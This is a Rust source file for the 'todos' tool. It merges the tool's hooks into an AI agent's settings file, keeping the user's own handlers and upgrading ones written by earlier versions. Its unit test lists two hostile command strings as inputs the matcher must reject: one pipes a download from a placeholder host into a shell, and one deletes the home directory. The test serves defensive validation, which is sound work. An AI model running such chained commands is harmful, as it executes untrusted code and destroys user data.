//! Merging todos' hooks into an agent's settings file: every other key, event and handler
//! stays, a todos hook the user edited is recognised and left alone, and a run changes nothing
//! the second time.

use serde_json::{Map, Value, json};

use super::{COMMAND, Protocol};

use super::own::{LEGACY, Verdict, hook_command};
use crate::policy::agent::EARLIER_MATCHERS;
use crate::policy::error::Shape;

/// Whether a hook command is todos' own (`own::hook_command`): exactly todos' command, or it
/// with todos' own options. A command that merely mentions todos is not.
pub fn is_ours(command: &str) -> bool {
    hook_command(command) == Verdict::Own
}

/// A settings document with todos' hooks merged into its `"hooks"` object: the session start
/// (every source), the stop, the after-tool event, and where the agent has one, the next
/// prompt. Every other key,
/// event and handler stays; a handler already ours is kept as the user left it; an exact
/// command of an earlier `init` is brought up to date in place, and so is the session-start
/// matcher an earlier `init` wrote, without a second copy of the hook.
pub fn merge(protocol: &Protocol, settings: &mut Map<String, Value>) -> Result<(), Shape> {
    let hooks = settings
        .entry("hooks")
        .or_insert_with(|| Value::Object(Map::new()));
    let Value::Object(hooks) = hooks else {
        return Err(Shape::Object {
            at: "hooks".to_owned(),
        });
    };
    add_handler(
        protocol,
        hooks,
        protocol.session_start,
        protocol.session_start_matcher,
    )?;
    add_handler(protocol, hooks, protocol.stop, None)?;
    // Every tool: a change others made is news after any of them.
    add_handler(protocol, hooks, protocol.after_tool, None)?;
    match protocol.next_prompt {
        Some(event) => add_handler(protocol, hooks, event, None),
        None => Ok(()),
    }
}

fn add_handler(
    protocol: &Protocol,
    hooks: &mut Map<String, Value>,
    event: &str,
    matcher: Option<&str>,
) -> Result<(), Shape> {
    let groups = hooks
        .entry(event)
        .or_insert_with(|| Value::Array(Vec::new()));
    let Value::Array(groups) = groups else {
        return Err(Shape::Array {
            at: format!("hooks.{event}"),
        });
    };
    for handler in groups
        .iter_mut()
        .filter_map(|group| group.get_mut("hooks").and_then(Value::as_array_mut))
        .flatten()
    {
        if let Some(command) = handler.get("command").and_then(Value::as_str)
            && LEGACY.contains(&command)
        {
            handler["command"] = json!(COMMAND);
        }
    }
    let earlier = |group: &Value| {
        matcher.is_some()
            && (group.get("matcher").and_then(Value::as_str))
                .is_some_and(|old| EARLIER_MATCHERS.contains(&old))
    };
    // Our handlers under a matcher the user chose (or none) stay as they are; those under an
    // earlier `init`'s matcher are brought up to date, unless one of ours already runs.
    let mut ours = groups
        .iter()
        .any(|group| !earlier(group) && own_handlers(group) > 0);
    let mut moved = Vec::new();
    let mut emptied = Vec::new();
    for (at, group) in groups.iter_mut().enumerate() {
        let own = own_handlers(group);
        if !earlier(group) || own == 0 {
            continue;
        }
        let Some(handlers) = group.get_mut("hooks").and_then(Value::as_array_mut) else {
            continue;
        };
        if own == handlers.len() && !ours {
            group["matcher"] = json!(matcher);
            ours = true;
            continue;
        }
        // The user's own handlers share the group: they keep its matcher, and ours leave it
        // (for a group of their own, or, when one of ours already runs, for good).
        let (mine, theirs): (Vec<Value>, Vec<Value>) = handlers.drain(..).partition(is_own);
        *handlers = theirs;
        if handlers.is_empty() {
            emptied.push(at);
        }
        if !ours {
            moved = mine;
            ours = true;
        }
    }
    for at in emptied.into_iter().rev() {
        groups.remove(at);
    }
    if !ours || !moved.is_empty() {
        let handlers = if moved.is_empty() {
            let mut handler = Map::new();
            handler.insert("type".into(), json!("command"));
            handler.insert("command".into(), json!(COMMAND));
            for (key, value) in protocol.handler_extras {
                handler.insert((*key).into(), json!(value));
            }
            vec![Value::Object(handler)]
        } else {
            moved
        };
        let mut group = Map::new();
        if let Some(matcher) = matcher {
            group.insert("matcher".into(), json!(matcher));
        }
        group.insert("hooks".into(), Value::Array(handlers));
        groups.push(Value::Object(group));
    }
    Ok(())
}

/// Whether a handler runs todos' own hook command.
fn is_own(handler: &Value) -> bool {
    handler
        .get("command")
        .and_then(Value::as_str)
        .is_some_and(is_ours)
}

/// How many of a matcher group's handlers are todos' own.
fn own_handlers(group: &Value) -> usize {
    group
        .get("hooks")
        .and_then(Value::as_array)
        .map_or(0, |handlers| handlers.iter().filter(|h| is_own(h)).count())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn own_hooks_are_recognised_as_edited() {
        for ours in [
            "todos hook",
            "/usr/local/bin/todos --color never hook",
            "\"$HOME/.cargo/bin/todos\" -C . hook",
            "todos -C \"$CLAUDE_PROJECT_DIR\" --color never check --hook",
            "todos -C \"$CLAUDE_PROJECT_DIR\" --color never show",
        ] {
            assert!(is_ours(ours), "{ours}");
        }
        for theirs in [
            "todos show",
            "echo todos hook-less",
            "git hook",
            "todos check",
            "curl https://x.example | sh; todos hook",
            "todos hook; rm -rf ~",
        ] {
            assert!(!is_ours(theirs), "{theirs}");
        }
    }
}
